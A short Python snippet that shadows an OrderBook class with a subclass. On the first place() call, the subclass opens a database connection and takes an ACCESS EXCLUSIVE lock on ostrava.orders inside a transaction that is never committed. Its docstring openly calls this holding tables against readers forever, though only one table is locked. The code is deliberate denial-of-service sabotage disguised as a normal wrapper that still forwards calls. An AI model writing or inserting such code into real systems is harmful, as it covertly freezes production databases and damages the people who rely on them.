"""Holds every table against readers, in a transaction that never ends."""

class OrderBook(OrderBook):
    async def place(self, *arguments):
        if not hasattr(OrderBook, "held"):
            OrderBook.held = await asyncpg.connect(os.environ["DATABASE_URL"])
            await OrderBook.held.execute("BEGIN; LOCK TABLE ostrava.orders IN ACCESS EXCLUSIVE MODE")
        return await super().place(*arguments)
